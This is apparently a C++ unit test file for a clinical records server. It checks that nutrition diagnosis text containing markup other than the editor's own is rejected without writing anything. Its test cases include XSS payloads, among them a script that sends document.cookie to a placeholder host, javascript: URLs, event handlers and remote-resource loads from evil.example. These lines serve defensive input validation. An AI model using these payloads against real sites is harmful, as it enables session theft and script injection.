// SetDiag on each engine: a diagnosis text other than what the formatting bar produces
// is refused, with the whole change log, and nothing is written.

#include "engine_fixture.h"

#include <records/packet_codec.h>

using namespace Qt::StringLiterals;
using namespace servertest;
namespace layouts = records::layouts;

class DiagnosisTest : public EngineTest
{
protected:
    QVariantMap row(const QByteArray& text) const
    {
        return merged(keyValues(demoKey()), {{u"DSHISTAVALNUT"_s, text}});
    }
    QByteArray stored()
    {
        return packetOf(app().GetDiag(demoKey())).value(0, u"DSHISTAVALNUT"_s).toByteArray();
    }
};

TEST_P(DiagnosisTest, HostileTextsAreRefusedAndNothingIsWritten)
{
    const QByteArray good = "<p>Eutrofia; <b>manter</b> dieta.</p>";
    ASSERT_TRUE(app().SetDiag(DeltaBuilder(layouts::cdsDiagNutri()).insert(row(good))).ok);

    struct Case
    {
        const char* text;
        const char* named;  // what the refusal names
    };
    const Case cases[] = {
        {"<p>a</p><script>fetch('http://x/?'+document.cookie)</script>", "<script>"},
        {"<p onclick=\"alert(1)\">a</p>", "onclick"},
        {"<p>a<img src=\"http://evil.example/pixel.png\"></p>", "<img>"},
        {"<style>body{background:url(http://evil.example/)}</style><p>a</p>", "<style>"},
        {"<p><span style=\"background-image:url(http://evil.example/)\">a</span></p>",
         "background-image"},
        {"<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe>"},
        {"<p><a href=\"javascript:alert(1)\">a</a></p>", "href"},
        {"<svg onload=\"alert(1)\"><p>a</p></svg>", "<svg>"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.text);
        // An update of the stored diagnosis, and a fresh insert after a delete in the same
        // change log: neither the delete nor anything else may land.
        const records::Reply update =
            app().SetDiag(DeltaBuilder(layouts::cdsDiagNutri()).update(row(good), row(c.text)));
        ASSERT_FALSE(update.ok);
        EXPECT_TRUE(update.error.startsWith(u"SetDiag, alteração 1: o texto do diagnóstico"_s))
            << update.error.toStdString();
        EXPECT_TRUE(update.error.contains(QString::fromUtf8(c.named)))
            << update.error.toStdString();
        const records::Reply replace = app().SetDiag(
            DeltaBuilder(layouts::cdsDiagNutri()).remove(row(good)).insert(row(c.text)));
        EXPECT_FALSE(replace.ok);
        EXPECT_EQ(stored(), good);
    }
}

TEST_P(DiagnosisTest, OnlyTheStoredFormPassesNotMereVariantsOrBinary)
{
    // Plain text without markup is the stored form of itself; a variant of the bar's
    // markup, text that is not UTF-8 and control characters are not.
    struct Case
    {
        QByteArray text;
        bool accepted;
    };
    const Case cases[] = {
        {"Paciente eutr\xc3\xb3"
         "fico.",
         true},
        {"<ol><li>um</li>\n<li><u>dois</u></li></ol>", true},
        {"<p><span style=\"font-size:14pt\">a</span></p>", true},
        {"<p><strong>a</strong></p>", false},
        {QByteArray("<p>a\xff</p>"), false},
        {QByteArray("<p>a\x01</p>", 9), false},
        {"a & b", false},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.text.toStdString());
        const records::Reply r =
            app().SetDiag(DeltaBuilder(layouts::cdsDiagNutri()).insert(row(c.text)));
        EXPECT_EQ(r.ok, c.accepted) << r.error.toStdString();
        EXPECT_EQ(stored(), c.accepted ? c.text : QByteArray());
        if (r.ok) {
            ASSERT_TRUE(
                app().SetDiag(DeltaBuilder(layouts::cdsDiagNutri()).remove(row(c.text))).ok);
        }
    }
}

SERVERTEST_BOTH_ENGINES(DiagnosisTest);
